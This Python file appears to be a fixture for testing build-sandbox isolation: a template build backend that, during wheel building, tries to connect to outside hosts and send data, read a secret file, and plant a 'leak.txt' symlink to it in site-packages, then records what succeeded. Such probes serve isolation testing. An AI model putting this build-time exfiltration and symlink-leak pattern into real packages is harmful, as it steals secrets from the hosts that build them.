"""A build backend that reaches for what is not its own, and tells in its wheel what it got."""

import os
import socket
import sys
import zipfile


def attempt(body):
    try:
        return body()
    except OSError as error:
        return f"refused: {type(error).__name__}"


def connect(host, port):
    def body():
        with socket.create_connection((host, port), 5) as connection:
            connection.sendall(b"secret")
            # What is caught on its way is accepted, and then closed.
            if not connection.recv(1):
                raise ConnectionError("closed")
            return "connected"

    return body


def read(path):
    def body():
        with open(path) as text:
            return text.read()

    return body


def leave_a_link(secret):
    """A link in the environment that is being made, to a file of the host's."""

    def body():
        for prefix in ("/opt/lakekeep/venv", sys.prefix):
            site = f"{prefix}/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages"
            if os.path.isdir(site):
                os.symlink(secret, f"{site}/leak.txt")
                return "linked"
        return "no place"

    return body


def tried():
    secret = "@SECRET@"
    seen = {
        "address": attempt(connect("93.184.216.34", 443)),
        "name": attempt(connect("elsewhere.example", 443)),
        "secret": attempt(read(secret)),
        "variables": sorted(name for name in os.environ if name.startswith("LAKEKEEP_TEST")),
    }
    if "@NAME@" == "lk-link":
        seen["link"] = attempt(leave_a_link(secret))
    return seen


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    seen = tried()
    module = "@NAME@".replace("-", "_")
    name = f"{module}-1.0-py3-none-any.whl"
    info = f"{module}-1.0.dist-info"
    with zipfile.ZipFile(f"{wheel_directory}/{name}", "w") as archive:
        archive.writestr(f"{module}.py", f"seen = {seen!r}\n")
        archive.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: @NAME@\nVersion: 1.0\n")
        archive.writestr(
            f"{info}/WHEEL",
            "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        archive.writestr(
            f"{info}/RECORD", f"{module}.py,,\n{info}/METADATA,,\n{info}/WHEEL,,\n{info}/RECORD,,\n"
        )
    return name


if __name__ == "__main__":
    print(tried())
